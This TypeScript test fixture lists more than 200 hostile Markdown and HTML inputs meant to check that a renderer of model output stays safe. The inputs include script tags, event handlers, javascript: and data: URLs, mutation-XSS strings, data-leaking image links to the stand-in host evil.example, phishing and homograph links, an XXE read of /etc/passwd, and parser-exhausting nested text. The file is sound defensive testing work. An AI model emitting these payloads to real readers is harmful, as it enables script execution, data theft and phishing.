/** A Markdown text that somebody might have a model say in order to harm who reads it. */
export interface Payload {
  readonly name: string;
  readonly text: string;
}

// What each would call if it ran, and where each would send, so that a test can listen for either.
const RUN = 'window.__ran(1)';
const AWAY = 'https://evil.example';

const MEGABYTE = 1_000_000;

/** More than 200 of them, by name. None is random. */
export function payloads(): readonly Payload[] {
  return [
    ...html(),
    ...handlers(),
    ...schemes(),
    ...spellings(),
    ...images(),
    ...frames(),
    ...mutations(),
    ...references(),
    ...autolinks(),
    ...maths(),
    ...code(),
    ...characters(),
    ...unclosed(),
    ...nested(),
    ...repeated(),
    ...large(),
  ];
}

function all(kind: string, texts: readonly string[]): readonly Payload[] {
  return texts.map((text, index) => ({ name: `${kind} ${index + 1}`, text }));
}

function html(): readonly Payload[] {
  return all('html', [
    `<script>${RUN}</script>`,
    `<script src="${AWAY}/x.js"></script>`,
    `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
    `text <script>${RUN}</script> text`,
    `<script type="module">import "${AWAY}/x.js"</script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `</p><script>${RUN}</script><p>`,
    `</div></article></main><script>${RUN}</script>`,
    `<script\n>${RUN}</script\n>`,
    `<script/x>${RUN}</script>`,
    `<<script>${RUN}//<</script>`,
    `&lt;script&gt;${RUN}&lt;/script&gt;`,
    `\\<script>${RUN}\\</script>`,
    `<style>*{background:url(${AWAY}/css)}</style>`,
    `<style>@import "${AWAY}/x.css";</style>`,
    `<link rel=stylesheet href="${AWAY}/x.css">`,
    `<link rel=preload as=image href="${AWAY}/x">`,
    `<link rel=dns-prefetch href="//evil.example">`,
    `<base href="${AWAY}/">`,
    `<meta http-equiv="refresh" content="0;url=${AWAY}/">`,
    `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
    `<form action="${AWAY}/"><input name=q autofocus><button>Go</button></form>`,
    `<form action="javascript:${RUN}"><input type=submit></form>`,
    `<button formaction="javascript:${RUN}">x</button>`,
    `<input type=image src=x formaction="javascript:${RUN}">`,
    `<isindex action="javascript:${RUN}">`,
    `<template><script>${RUN}</script></template>`,
    `<noscript><p title="</noscript><script>${RUN}</script>">`,
    `<xmp><script>${RUN}</script></xmp>`,
    `<plaintext><script>${RUN}</script>`,
    `<title><script>${RUN}</script></title>`,
    `<div style="position:fixed;inset:0;z-index:99999;background:red">over all</div>`,
    `<p style="background:url(${AWAY}/style)">x</p>`,
    `<p id="root" class="x">clobber</p><a id=location href=x></a>`,
    `<form id=test><input name=attributes></form>`,
    `<portal src="${AWAY}"></portal>`,
    `<custom-element onclick=${RUN}>x</custom-element>`,
    `<!-- --><script>${RUN}</script><!-- -->`,
    `<!--><script>${RUN}</script>-->`,
    `<![CDATA[<script>${RUN}</script>]]>`,
    `<?xml-stylesheet href="${AWAY}/x.xsl"?>`,
    `<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;`,
    `<details open ontoggle=${RUN}><summary>s</summary></details>`,
    `<dialog open><form method=dialog></form></dialog>`,
    `<div popover id=p></div><button popovertarget=p>x</button>`,
  ]);
}

function handlers(): readonly Payload[] {
  const events = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onpointerenter'];
  return all('handler', [
    ...events.map((event) => `<img src=x ${event}="${RUN}">`),
    `<body onload=${RUN}>`,
    `<input autofocus onfocus=${RUN}>`,
    `<video><source onerror=${RUN}></video>`,
    `<audio src=x onerror=${RUN}>`,
    `<marquee onstart=${RUN}>x</marquee>`,
    `<a href=x onclick=${RUN}>x</a>`,
    `<p onanimationstart=${RUN} style="animation:x">x</p>`,
    `<div onbeforematch=${RUN} hidden=until-found>x</div>`,
    `<img/src="x"/onerror=${RUN}>`,
    `<img src=x onerror\n=\n${RUN}>`,
    `<img src='x' onerror='${RUN}' `,
    `[x](https://a.example "onmouseover=${RUN}")`,
    `[x](https://a.example '" onmouseover="${RUN}')`,
    `![x" onerror="${RUN}](https://evil.example/x.png)`,
    `[x" onclick="${RUN}](https://a.example)`,
    `\`\`\`" onmouseover="${RUN}\ncode\n\`\`\``,
    `\`\`\`js"><img src=x onerror=${RUN}>\ncode\n\`\`\``,
  ]);
}

function schemes(): readonly Payload[] {
  const urls = [
    `javascript:${RUN}`,
    `vbscript:msgbox(1)`,
    `data:text/html,<script>${RUN}</script>`,
    `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW4oMSk8L3NjcmlwdD4=`,
    `data:image/svg+xml,<svg onload='${RUN}'/>`,
    `blob:https://a.example/0`,
    `file:///etc/passwd`,
    `filesystem:https://a.example/temporary/x`,
    `view-source:https://a.example`,
    `about:blank`,
    `ftp://evil.example/x`,
    `intent://evil.example#Intent;scheme=https;end`,
    `ms-word:ofe|u|https://evil.example/x.docx`,
    `//evil.example/x`,
    `/v1/streams`,
    `https://user:secret@evil.example/`,
    `https://a.example@evil.example/`,
    `mailto:a@b.example?attach=/etc/passwd`,
  ];
  return urls.flatMap((url, index) => [
    { name: `scheme ${index + 1} in a link`, text: `[press](<${url}>)` },
    { name: `scheme ${index + 1} in an image`, text: `![look](<${url}>)` },
  ]);
}

function spellings(): readonly Payload[] {
  return all('spelling', [
    `[x](JaVaScRiPt:${RUN})`,
    `[x]( javascript:${RUN})`,
    `[x](javascript&colon;${RUN})`,
    `[x](javascript&#58;${RUN})`,
    `[x](javascript&#x3A;${RUN})`,
    `[x](&#106;&#97;&#118;&#97;script:${RUN})`,
    `[x](&#x6A;avascript:${RUN})`,
    `[x](&#0000106avascript:${RUN})`,
    `[x](java&Tab;script:${RUN})`,
    `[x](java&NewLine;script:${RUN})`,
    `[x](<java\tscript:${RUN}>)`,
    `[x](java\u0000script:${RUN})`,
    `[x](\u0001javascript:${RUN})`,
    `[x](\u001fjavascript:${RUN})`,
    `[x](java\u200bscript:${RUN})`,
    `[x](java\u00adscript:${RUN})`,
    `[x](\ufeffjavascript:${RUN})`,
    `[x](\u202ejavascript:${RUN})`,
    `[x](javascript%3A${RUN})`,
    `[x](javascript\\:${RUN})`,
    `[x](java\\script:${RUN})`,
    `[x](javascript://https://a.example/%0A${RUN})`,
    `[x](\\javascript:${RUN})`,
    `[x](https:javascript:${RUN})`,
    `[x](https:\\\\evil.example)`,
    `[x](http:evil.example)`,
    `[x](feed:javascript:${RUN})`,
    `[x](jar:javascript:${RUN}!/)`,
    `<javascript:${RUN}>`,
    `<JAVASCRIPT:${RUN}>`,
    `<data:text/html,<script>${RUN}</script>>`,
    `<a href="javascript:${RUN}">x</a>`,
    `<a href="\u0001java\tscript:${RUN}">x</a>`,
    `[<script>${RUN}</script>](https://a.example)`,
    `[x](https://a.example\u0000javascript:${RUN})`,
    `[https://bank.example/login](${AWAY}/login)`,
    `[x](https://xn--80ak6aa92e.com)`,
    `[x](https://\u0430pple.com)`,
    `[x](https://evil.example/\u202egnp.exe)`,
  ]);
}

function images(): readonly Payload[] {
  return all('image', [
    `![](${AWAY}/?q=secret)`,
    `![alt](${AWAY}/a.png "title")`,
    `[![badge](${AWAY}/b.svg)](${AWAY})`,
    `![a ![b](${AWAY}/c.png) d](${AWAY}/e.png)`,
    `![x][i]\n\n[i]: ${AWAY}/ref.png`,
    `<img src="${AWAY}/html.png">`,
    `<img srcset="${AWAY}/a.png 1x, ${AWAY}/b.png 2x">`,
    `<picture><source srcset="${AWAY}/p.webp"><img src=x></picture>`,
    `<video poster="${AWAY}/poster.png" autoplay></video>`,
    `<audio autoplay src="${AWAY}/a.mp3"></audio>`,
    `<input type=image src="${AWAY}/i.png">`,
    `<table background="${AWAY}/t.png"><tr><td>x</td></tr></table>`,
    `<svg><image href="${AWAY}/svg.png"/></svg>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg onload=${RUN}>`,
    `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x></svg>`,
    `<svg><set attributeName=href to="javascript:${RUN}"></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
    `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
    `<svg><style>*{fill:url(${AWAY}/x)}</style></svg>`,
  ]);
}

function frames(): readonly Payload[] {
  return all('frame', [
    `<iframe src="${AWAY}"></iframe>`,
    `<iframe src="javascript:${RUN}"></iframe>`,
    `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
    `<iframe src="data:text/html,<script>${RUN}</script>">`,
    `<object data="${AWAY}/x.swf"></object>`,
    `<object data="javascript:${RUN}"></object>`,
    `<embed src="javascript:${RUN}">`,
    `<applet code="x" codebase="${AWAY}"></applet>`,
    `<frameset><frame src="javascript:${RUN}"></frameset>`,
    `<fencedframe src="${AWAY}"></fencedframe>`,
  ]);
}

/** Texts that a browser reads as other elements the second time than the first. */
function mutations(): readonly Payload[] {
  return all('mutation', [
    `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
    `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
    `<math><annotation-xml encoding="text/html"><style></annotation-xml><img src=x onerror=${RUN}>`,
    `<noscript><style></noscript><img src=x onerror=${RUN}>`,
    `<select><template><style></select><img src=x onerror=${RUN}>`,
    `<table><caption><svg><title><table><a id="</title><img src=x onerror=${RUN}>">`,
    `<math href="javascript:${RUN}">x</math>`,
    `<math><maction actiontype="statusline#${AWAY}" xlink:href="javascript:${RUN}">x</maction></math>`,
    `<p>\`<img src=x onerror=${RUN}>\`</p>`,
    `<a href="\`"\`><img src=x onerror=${RUN}>`,
    `\`<a title="\`"><img src=x onerror=${RUN}>"`,
    `<x a="b > c" onclick=${RUN}>x</x>`,
  ]);
}

function references(): readonly Payload[] {
  return all('reference', [
    `[x]\n\n[x]: javascript:${RUN}`,
    `[x][y]\n\n[y]: <java\tscript:${RUN}>`,
    `[x][]\n\n[x]: data:text/html,<script>${RUN}</script>`,
    `[__proto__]\n\n[__proto__]: ${AWAY}`,
    `[constructor][constructor]\n\n[constructor]: javascript:${RUN}`,
    `[toString] [hasOwnProperty] [valueOf]`,
    `[x]: ${AWAY} "a\nb"\n\n[x]`,
    `[x]: https://a.example\n[x]: javascript:${RUN}\n\n[x]`,
    `[\u1e9e]\n\n[SS]: javascript:${RUN}`,
    `[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
    `[^1]\n\n[^1]: [x](javascript:${RUN})`,
    `[^"><script>${RUN}</script>]\n\n[^"><script>${RUN}</script>]: x`,
    `[^root]\n\n[^root]: clobber`,
    `[^1]: [^1] [^1]\n\n[^1]`,
    `[[x](https://a.example)](javascript:${RUN})`,
    `[a [b](https://a.example) c](https://b.example)`,
    `[x](https://a.example)(javascript:${RUN})`,
    `[x](<https://a.example> "</a><script>${RUN}</script>")`,
  ]);
}

function autolinks(): readonly Payload[] {
  return all('autolink', [
    `www.evil.example/<script>${RUN}</script>`,
    `https://a.example/"onmouseover="${RUN}`,
    `https://a.example/'><img src=x onerror=${RUN}>`,
    `<https://a.example/"onclick="${RUN}>`,
    `<https://a.example/\u0000>`,
    `javascript:${RUN} at the start of a line`,
    `a@b.example?subject=<script>`,
    `<a@b.example">`,
    `mailto:a@b.example?cc=c@d.example`,
    `xmpp:a@b.example/${RUN}`,
    `https://[::1]:22/`,
    `https://127.0.0.1:6379/`,
    `https://a.example/${'('.repeat(200)}`,
    `http://a.example:99999/`,
    `https://`,
    `http://.`,
  ]);
}

function maths(): readonly Payload[] {
  const commands = [
    `\\href{javascript:${RUN}}{x}`,
    `\\url{javascript:${RUN}}`,
    `\\includegraphics[height=1em]{${AWAY}/x.png}`,
    `\\htmlId{root}{x}`,
    `\\htmlClass{x}{y}`,
    `\\htmlStyle{background:url(${AWAY})}{x}`,
    `\\htmlData{x=y}{z}`,
    `\\def\\a{\\a\\a}\\a`,
    `\\gdef\\a#1{\\a{#1#1}}\\a{x}`,
    `\\rule{99999em}{99999em}`,
    `\\kern{999999999em}`,
    `\\color{red;background:url(${AWAY})}x`,
    `\\text{<script>${RUN}</script>}`,
    `\\textcolor{#fff}{\\text{hidden}}`,
    `\\pmb{x}\\fcolorbox{red}{blue}{y}`,
    `\\unicode{x3c}script`,
    `\\verb|<img src=x onerror=${RUN}>|`,
    `\\require{html}\\style{x}{y}`,
    `\\catcode\`\\<=1`,
    `\\frac{`,
    `\\begin{array}{${'c'.repeat(300)}}x\\end{array}`,
  ];
  return all('maths', [
    ...commands.map((tex) => `$${tex}$`),
    ...commands.slice(0, 6).map((tex) => `$$\n${tex}\n$$`),
    `$${'{'.repeat(1_000)}x${'}'.repeat(1_000)}$`,
    `$$${'\\frac{1}{'.repeat(400)}x${'}'.repeat(400)}$$`,
    `$$${'x^{'.repeat(800)}x${'}'.repeat(800)}$$`,
    `${'$x$ '.repeat(2_000)}`,
    `${'$$\n'.repeat(3_000)}`,
    `${'\\('.repeat(5_000)}`,
    `$<img src=x onerror=${RUN}>$`,
  ]);
}

function code(): readonly Payload[] {
  return all('code', [
    `\`<script>${RUN}</script>\``,
    `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
    `\`\`\`xml\n${'<a>'.repeat(3_000)}\n\`\`\``,
    `\`\`\`constructor\nx\n\`\`\``,
    `\`\`\`__proto__\nx\n\`\`\``,
    `\`\`\`${'x'.repeat(5_000)}\ncode\n\`\`\``,
    `\`\`\`javascript\n${'/*'.repeat(10_000)}\n\`\`\``,
    `\`\`\`css\n${'a{'.repeat(10_000)}\n\`\`\``,
    `\`\`\`bash\n${'"$('.repeat(8_000)}\n\`\`\``,
    `\`\`\`python\n${'"""'.repeat(8_000)}\n\`\`\``,
    `\`\`\`ruby\n${'#{'.repeat(10_000)}\n\`\`\``,
    `\`\`\`\n${'\n'.repeat(5_000)}\n\`\`\``,
    `~~~\n${'```\n'.repeat(2_000)}`,
  ]);
}

function characters(): readonly Payload[] {
  return all('character', [
    `a\u0000b\u0000c`,
    `\ud800 lone \udfff halves \ud83d`,
    `\u202etxet desrever\u202c and \u2066isolated\u2069`,
    `${'\u202e'.repeat(5_000)}x`,
    `z${'\u0336'.repeat(20_000)}`,
    `${'\u200b'.repeat(50_000)}`,
    `${'\u00ad'.repeat(50_000)}`,
    `${'👨‍👩‍👧‍👦'.repeat(2_000)}`,
    `${'\ufdfd'.repeat(2_000)}`,
    `\ufeff# Head\u2028line\u2029paragraph\u0085next`,
    `${'\r'.repeat(5_000)}a\r\nb`,
    `${'\t'.repeat(50_000)}x`,
    `\u001b]0;title\u0007\u001b[31mred`,
    `\uffff\ufffe\u{10ffff}`,
    `**${'あ。'.repeat(2_000)}**あ`,
  ]);
}

function unclosed(): readonly Payload[] {
  const marks = ['**', '`', '```\n', '[', '[x](', '![', '~~', '$', '$$\n', '\\[\n', '<', '<!--'];
  return [
    ...marks.map((mark) => ({
      name: `unclosed ${JSON.stringify(mark)}`,
      text: `text ${mark}and more`,
    })),
    ...marks.map((mark) => ({
      name: `unclosed line of ${JSON.stringify(mark)}`,
      text: `${mark}${'words '.repeat(20_000)}`,
    })),
    { name: 'unclosed everything', text: `> - 1. ${marks.join('a ')}` },
    { name: 'unclosed tag in a table', text: `| <b | \`x |\n|---|---|\n| **a | [b]( |` },
  ];
}

function nested(): readonly Payload[] {
  const upTo = (count: number, line: (depth: number) => string) =>
    Array.from({ length: count }, (_, depth) => line(depth)).join('\n');
  const downFrom = (count: number, line: (depth: number) => string) =>
    Array.from({ length: count }, (_, index) => line(count - index)).join('\n');
  return [
    { name: 'nested quotes', text: `${'> '.repeat(1_000)}x` },
    { name: 'nested quotes without spaces', text: `${'>'.repeat(20_000)}x` },
    { name: 'nested quotes line by line', text: upTo(200, (depth) => `${'>'.repeat(depth)} a`) },
    { name: 'nested quotes backwards', text: downFrom(200, (depth) => `${'>'.repeat(depth)} a`) },
    { name: 'nested quotes, lazily', text: downFrom(100, (depth) => `${'>'.repeat(depth)} a\nb`) },
    { name: 'nested lists', text: upTo(1_000, (depth) => `${' '.repeat(2 * depth)}- a`) },
    { name: 'nested lists in a line', text: `${'- '.repeat(5_000)}x` },
    { name: 'nested lists backwards', text: downFrom(200, (depth) => `${' '.repeat(depth)}- a`) },
    { name: 'nested numbers', text: `${'1. '.repeat(5_000)}x` },
    { name: 'nested lists and quotes', text: `${'- > '.repeat(3_000)}x` },
    { name: 'nested tasks', text: `${'- [ ] '.repeat(2_000)}x` },
    { name: 'nested emphasis', text: `${'*a '.repeat(2_000)}b${'*'.repeat(2_000)}` },
    {
      name: 'nested emphasis of both kinds',
      text: `${'*a _b '.repeat(1_000)}${'c_ d*'.repeat(1_000)}`,
    },
    { name: 'nested strong', text: `${'**a '.repeat(2_000)}${'b** '.repeat(2_000)}` },
    { name: 'nested brackets', text: `${'['.repeat(10_000)}x${']'.repeat(10_000)}` },
    { name: 'nested links', text: `${'['.repeat(2_000)}x${'](https://a.example)'.repeat(2_000)}` },
    {
      name: 'nested images',
      text: `${'!['.repeat(2_000)}x${'](https://a.example)'.repeat(2_000)}`,
    },
    { name: 'nested tags', text: '<div>'.repeat(10_000) },
    { name: 'nested fences', text: upTo(200, (depth) => '`'.repeat(depth + 3)) },
  ];
}

/** What makes a parser that looks ahead at each place look for ever. */
function repeated(): readonly Payload[] {
  const patterns = [
    ...[
      '[',
      ']',
      '(',
      '*',
      '**',
      '_',
      '`',
      '~',
      '<',
      '>',
      '!',
      '|',
      '#',
      '-',
      '+',
      '=',
      '&',
      '\\',
      '$',
      ':',
      '.',
      '@',
    ],
    ...[
      '*a ',
      '**a ',
      '_a ',
      'a_b_',
      'a**b',
      '*a**b ',
      '*a*b',
      '“**a',
      '___a',
      '~~a ',
      '` a',
      '`` ` ',
    ],
    ...[
      '[a](',
      '[a](b',
      '[a][',
      '[[a](b)',
      '![',
      '](',
      '[](',
      '[x](<',
      '[x](a "',
      '[\\',
      '[`',
      '[^1]',
    ],
    ...[
      '<a ',
      '<a b="',
      '<!--',
      '<?',
      '<!A',
      '</',
      '<a@',
      '<![CDATA[',
      '&#',
      '&a',
      'a@',
      'a@b.',
      'http://a(',
    ],
    ...['http://', 'www.', 'mailto:', '$a ', '\\(', '\\[', '\\\\'],
    ...[
      '- a\n',
      '-\n',
      '1.\n',
      '> a\n',
      '> a\nb\n',
      '>\n',
      '#\n',
      '# a\n',
      '```\n',
      '~~~ ',
      '---\n',
      '=\na\n',
    ],
    ...[
      'a|b\n-|-|-\n',
      '|-',
      '| a ',
      '[a]: b\n',
      '[a]:\n',
      '[a]: b "',
      '[^a]: b\n',
      '<a>\n',
      '<div>\n',
      'a  \n',
    ],
    ...['a\n    b\n', ' \n', '\n', ' ', '\t', '> - > - a\nb\n', '$$\na\n', '**。', '`a``b```c'],
  ];
  return patterns.map((pattern) => ({
    name: `repeated ${JSON.stringify(pattern)}`,
    text: pattern.repeat(Math.ceil(30_000 / pattern.length)),
  }));
}

function large(): readonly Payload[] {
  const row = (columns: number, cell: string) => `|${` ${cell} |`.repeat(columns)}\n`;
  return [
    { name: 'large line of a letter', text: 'x'.repeat(MEGABYTE) },
    { name: 'large line of words', text: 'word '.repeat(MEGABYTE / 5) },
    { name: 'large line of Chinese', text: '水'.repeat(MEGABYTE / 2) },
    { name: 'large line of code', text: `\`\`\`\n${'x'.repeat(MEGABYTE / 2)}` },
    { name: 'large code', text: `\`\`\`java\n${'int x = 1; // one\n'.repeat(20_000)}\`\`\`\n` },
    {
      name: 'large table, tall',
      text: row(3, 'a') + row(3, '---') + row(3, '**b**').repeat(5_000),
    },
    { name: 'large table, wide', text: row(2_000, 'a') + row(2_000, '---') + row(2_000, 'b') },
    { name: 'large list', text: '- an *item*\n'.repeat(10_000) },
    { name: 'large loose list', text: '1. an item\n\n'.repeat(5_000) },
    { name: 'large quote', text: '> a line\n'.repeat(20_000) },
    { name: 'large number of paragraphs', text: 'A *short* one.\n\n'.repeat(10_000) },
    { name: 'large number of headings', text: '# Head\n\n'.repeat(5_000) },
    { name: 'large number of links', text: '[x](https://a.example) '.repeat(10_000) },
    { name: 'large number of definitions', text: `${definitions(5_000)}\n[x4999]` },
    { name: 'large number of images', text: `![x](${AWAY}/a.png) `.repeat(5_000) },
    { name: 'large comment', text: `<!-- ${'a '.repeat(200_000)}` },
    { name: 'large link', text: `[x](https://a.example/${'a'.repeat(200_000)})` },
  ];
}

function definitions(count: number): string {
  return Array.from(
    { length: count },
    (_, index) => `[x${index}]: https://a.example/${index}\n`,
  ).join('');
}
